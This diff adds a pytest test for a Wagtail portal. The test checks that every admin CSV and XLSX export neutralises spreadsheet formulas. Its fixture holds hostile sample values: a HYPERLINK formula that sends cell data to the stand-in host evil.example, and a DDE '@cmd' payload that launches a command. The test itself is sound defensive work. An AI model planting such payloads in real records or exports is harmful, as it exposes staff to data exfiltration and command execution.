@@ -1,0 +1,76 @@
+"""No admin export, CSV or XLSX, hands staff a cell that their spreadsheet would run."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+from wagtail.log_actions import log
+
+from portal.exports import FORMULA_STARTS
+from portal.models import StandardPage
+from tests.admin_walk import admin_patterns, fill
+from tests.factories import GuidanceRequestFactory
+
+pytestmark = pytest.mark.django_db
+
+NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
+MESSAGE = "+SUM(1;2)"
+NOTES = "@cmd|' /C calc'!A0"
+TITLE = "-2+3 kurs"
+
+
+@pytest.fixture
+def hostile_content(home, admin_user):
+    page = home.add_child(instance=StandardPage(title=TITLE, slug="formel"))
+    page.save_revision(user=admin_user).publish()
+    guidance_request = GuidanceRequestFactory(
+        name=NAME, message=MESSAGE, internal_notes=NOTES, phone="-1"
+    )
+    log(guidance_request, "wagtail.edit", user=admin_user)
+    return guidance_request, page
+
+
+def csv_cells(response):
+    text = b"".join(response.streaming_content).decode("utf-8")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def xlsx_cells(response):
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+
+
+def test_every_admin_export_neutralises_formulas(admin_client, hostile_content):
+    guidance_request, page = hostile_content
+    admin_client.raise_request_exception = False
+    values = {
+        "default": guidance_request.pk,
+        "page_id": page.pk,
+        "parent_page_id": page.pk,
+        "app_label": "guidance",
+        "model_name": "guidancerequest",
+    }
+    exports, csv_text, formulas = [], [], []
+    for route, _pattern in admin_patterns():
+        if not route.startswith("admin/") or route.startswith("admin/logout"):
+            continue
+        path = fill(route, values)
+        if admin_client.get(path).status_code != 200:
+            continue
+        response = admin_client.get(path, {"export": "csv"})
+        if not response.streaming:
+            continue
+        exports.append(path)
+        cells = csv_cells(response)
+        csv_text += cells
+        formulas += [(path, cell) for cell in cells if cell.startswith(FORMULA_STARTS)]
+        workbook = xlsx_cells(admin_client.get(path, {"export": "xlsx"}))
+        formulas += [(path, c.value) for c in workbook if c.data_type == "f"]
+
+    assert "/admin/guidance_requests/" in exports
+    assert "/admin/reports/site-history/" in exports
+    assert formulas == []
+    # The hostile values were exported, as text.
+    for value in (NAME, MESSAGE, NOTES, "-1"):
+        assert "'" + value in csv_text
